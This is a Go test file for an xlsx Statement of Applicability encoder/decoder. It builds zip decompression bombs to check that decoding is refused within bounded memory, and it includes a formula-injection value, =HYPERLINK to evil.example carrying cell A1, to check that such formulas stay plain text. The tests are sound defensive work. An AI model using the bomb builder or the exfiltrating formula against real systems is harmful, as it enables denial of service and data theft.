package xlsx

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"hash/crc32"
	"io"
	"os"
	"runtime"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/ismskit/ismskit"
)

// deflated returns a raw deflate stream of head, then n MiB of the byte
// fill, then tail, with its size once inflated and its CRC-32. The
// MiBs are not compressed one by one: after the first, every MiB is the
// same run of back-references to the fill bytes before it, repeated.
func deflated(t testing.TB, head []byte, fill byte, n int, tail []byte) (stream []byte, size uint64, crc uint32) {
	p, err := deflateParts(head, fill, tail)
	require.NoError(t, err)
	crc = crc32.Update(0, crc32.IEEETable, head)
	for range n {
		crc = crc32.Update(crc, crc32.IEEETable, p.mib)
	}
	crc = crc32.Update(crc, crc32.IEEETable, tail)
	return p.stream(n), uint64(len(head) + n<<20 + len(tail)), crc
}

// zeros returns a deflate stream of n MiB of zero bytes. Its parts are
// compressed once for every caller (a fifth of a second each time under
// the race detector), and no CRC-32 is computed: a bomb needs none.
func zeros(t testing.TB, n int) []byte {
	p, err := zeroParts()
	require.NoError(t, err)
	return p.stream(n)
}

var zeroParts = sync.OnceValues(func() (deflateStream, error) { return deflateParts(nil, 0, nil) })

// A deflateStream is a raw deflate stream of head, any number of MiB of
// one byte (mib holds one of them) and tail, in its three parts: first
// compresses head and the first MiB, more each further MiB, and end
// the tail, ending the stream.
type deflateStream struct {
	first, more, end, mib []byte
}

// stream returns the stream with n MiB.
func (p deflateStream) stream(n int) []byte {
	out := make([]byte, 0, len(p.first)+(n-1)*len(p.more)+len(p.end))
	out = append(out, p.first...)
	for range n - 1 {
		out = append(out, p.more...)
	}
	return append(out, p.end...)
}

// deflateParts compresses the parts of the stream of head, MiBs of fill
// and tail.
func deflateParts(head []byte, fill byte, tail []byte) (deflateStream, error) {
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, flate.BestCompression)
	if err != nil {
		return deflateStream{}, err
	}
	p := deflateStream{mib: bytes.Repeat([]byte{fill}, 1<<20)}
	_, _ = w.Write(head)
	_, _ = w.Write(p.mib)
	if err := w.Flush(); err != nil {
		return deflateStream{}, err
	}
	first := b.Len()
	_, _ = w.Write(p.mib)
	if err := w.Flush(); err != nil {
		return deflateStream{}, err
	}
	p.more = bytes.Clone(b.Bytes()[first:])
	p.first = bytes.Clone(b.Bytes()[:first])
	b.Reset()
	_, _ = w.Write(tail)
	if err := w.Close(); err != nil {
		return deflateStream{}, err
	}
	p.end = bytes.Clone(b.Bytes())
	return p, nil
}

// withPart returns the workbook wb with its part name replaced by a raw
// deflate stream that declares declared bytes once unzipped (and no
// checksum: a bomb is refused before its end is reached).
func withPart(t testing.TB, wb []byte, name string, stream []byte, declared uint64) []byte {
	return withRawPart(t, wb, name, stream, declared, 0)
}

// withRawPart is withPart with a CRC-32 for the part.
func withRawPart(t testing.TB, wb []byte, name string, stream []byte, declared uint64, crc uint32) []byte {
	zr, err := zip.NewReader(bytes.NewReader(wb), int64(len(wb)))
	require.NoError(t, err)
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range zr.File {
		if f.Name == name {
			w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: crc,
				CompressedSize64: uint64(len(stream)), UncompressedSize64: declared})
			require.NoError(t, err)
			_, err = w.Write(stream)
			require.NoError(t, err)
			continue
		}
		require.NoError(t, zw.Copy(f))
	}
	require.NoError(t, zw.Close())
	return out.Bytes()
}

// allocated returns the bytes f allocates.
func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// TestDecompressionBomb: a workbook of about a megabyte whose sheet
// unzips to a gigabyte is refused from the zip's directory, with
// ErrTooLarge, before anything is inflated.
func TestDecompressionBomb(t *testing.T) {
	good := encodedSoA(t)
	const gib = 1024
	bomb := withPart(t, good, "xl/worksheets/sheet1.xml", zeros(t, gib), gib<<20)
	assert.Less(t, len(bomb), 2<<20, "a small file")

	var derr error
	n := allocated(func() { _, derr = Decode(bomb) })
	require.Error(t, derr)
	assert.ErrorIs(t, derr, ismskit.ErrTooLarge)
	assert.Contains(t, derr.Error(), "unzips to more than the limit of 8388608 bytes")
	assert.Less(t, n, uint64(4<<20), "bounded memory: %d bytes allocated", n)

	_, err := Read(bytes.NewReader(bomb))
	assert.ErrorIs(t, err, ismskit.ErrTooLarge)
}

// TestLyingBomb: a part that declares a small size but inflates hugely is
// stopped at its declared size by archive/zip, and is an error.
func TestLyingBomb(t *testing.T) {
	good := encodedSoA(t)
	bomb := withPart(t, good, "xl/worksheets/sheet1.xml", zeros(t, 256), 1000)
	var derr error
	n := allocated(func() { _, derr = Decode(bomb) })
	require.Error(t, derr)
	assert.ErrorIs(t, derr, ismskit.ErrSyntax)
	assert.Contains(t, derr.Error(), `part "xl/worksheets/sheet1.xml"`)
	assert.Less(t, n, uint64(4<<20), "bounded memory: %d bytes allocated", n)
}

func TestDecodeLimits(t *testing.T) {
	good := encodedSoA(t)
	tests := []struct {
		name string
		opts []ismskit.DecodeOption
		kind error
		msg  string
	}{
		{"default", nil, nil, ""},
		{"file over the limit", []ismskit.DecodeOption{ismskit.MaxBytes(10_000)}, ismskit.ErrTooLarge, "input longer than the limit of 10000 bytes"},
		{"unzipped over the limit", []ismskit.DecodeOption{ismskit.MaxBytes(50_000)}, ismskit.ErrTooLarge, "unzips to more than the limit of 50000 bytes"},
		{"no limit", []ismskit.DecodeOption{ismskit.MaxBytes(-1)}, nil, ""},
		{"problems limit", []ismskit.DecodeOption{ismskit.MaxProblems(5)}, nil, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Decode(good, tt.opts...)
			_, rerr := Read(bytes.NewReader(good), tt.opts...)
			if tt.kind == nil {
				assert.NoError(t, err)
				assert.NoError(t, rerr)
				return
			}
			assert.ErrorIs(t, err, tt.kind)
			assert.ErrorContains(t, err, tt.msg)
			assert.ErrorIs(t, rerr, tt.kind)
		})
	}

	// MaxProblems bounds the report.
	f, err := excelize.OpenReader(bytes.NewReader(good))
	require.NoError(t, err)
	for r := 7; r <= 40; r++ {
		cell, _ := excelize.CoordinatesToCellName(6, r)
		require.NoError(t, f.SetCellStr(SheetSoA, cell, "done"))
	}
	var buf bytes.Buffer
	require.NoError(t, f.Write(&buf))
	_, err = Decode(buf.Bytes(), ismskit.MaxProblems(5))
	assert.Len(t, ismskit.Problems(err), 6, "five problems and the count of the rest")
	assert.ErrorIs(t, err, ismskit.ErrMoreProblems)
}

// TestNoTemporaryFiles: a sheet larger than excelize's in-memory default
// (16 MiB), which excelize would unzip into a temporary file as it opens
// the workbook (and remove at Close), stays in memory: the temporary
// directory is not even touched. The large sheet is the summary, which
// Decode does not parse, so the test stays quick.
func TestNoTemporaryFiles(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	past := time.Date(2001, 1, 1, 0, 0, 0, 0, time.UTC)
	require.NoError(t, os.Chtimes(dir, past, past))
	good := encodedSoA(t)
	zr, err := zip.NewReader(bytes.NewReader(good), int64(len(good)))
	require.NoError(t, err)
	var sheet []byte
	for _, f := range zr.File {
		if f.Name == "xl/worksheets/sheet2.xml" {
			rc, err := f.Open()
			require.NoError(t, err)
			sheet, err = io.ReadAll(rc)
			require.NoError(t, err)
		}
	}
	end := bytes.LastIndex(sheet, []byte("</worksheet>"))
	require.Positive(t, end)
	// 16 MiB of spaces and the sheet's own bytes: just over excelize's
	// default, as over it as any larger sheet, which would only cost more
	// to unzip (excelize's copy of a part grows to twice its size as it
	// is read: seconds under the race detector).
	stream, size, crc := deflated(t, sheet[:end], ' ', excelize.StreamChunkSize>>20, sheet[end:])
	require.Greater(t, size, uint64(excelize.StreamChunkSize))
	big := withRawPart(t, good, "xl/worksheets/sheet2.xml", stream, size, crc)

	s, err := Decode(big, ismskit.MaxBytes(64<<20))
	require.NoError(t, err)
	assert.Len(t, s.Entries, 93)
	info, err := os.Stat(dir)
	require.NoError(t, err)
	assert.True(t, info.ModTime().Equal(past), "a file was created in the temporary directory")
}

func TestWideRowsStop(t *testing.T) {
	good := encodedSoA(t)
	f, err := excelize.OpenReader(bytes.NewReader(good))
	require.NoError(t, err)
	require.NoError(t, f.SetCellStr(SheetSoA, "XFD3", "far away"))
	var buf bytes.Buffer
	require.NoError(t, f.Write(&buf))
	_, err = Decode(buf.Bytes())
	assert.ErrorIs(t, err, ismskit.ErrSyntax)
	assert.ErrorContains(t, err, "SoA: row 3 has 16384 cells, want at most 14")
}

func TestFormulasStayText(t *testing.T) {
	s := testSoA(t)
	s.Entries[3].Implementation = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	s.Entries[4].Owner = "+1"
	b, err := Encode(s)
	require.NoError(t, err)
	f, err := excelize.OpenReader(bytes.NewReader(b))
	require.NoError(t, err)
	for _, cell := range []string{"J5", "H6"} {
		formula, err := f.GetCellFormula(SheetSoA, cell)
		require.NoError(t, err)
		assert.Empty(t, formula, cell)
		typ, err := f.GetCellType(SheetSoA, cell)
		require.NoError(t, err)
		assert.NotEqual(t, excelize.CellTypeFormula, typ, cell)
	}
	back, err := Decode(b)
	require.NoError(t, err)
	assert.Equal(t, s.Entries, back.Entries)
}

func TestNilArguments(t *testing.T) {
	assert.ErrorIs(t, Write(nil, testSoA(t)), ismskit.ErrMissing)
	_, err := Read(nil)
	assert.ErrorIs(t, err, ismskit.ErrMissing)
	_, err = Decode(nil)
	assert.ErrorIs(t, err, ismskit.ErrSyntax)
}
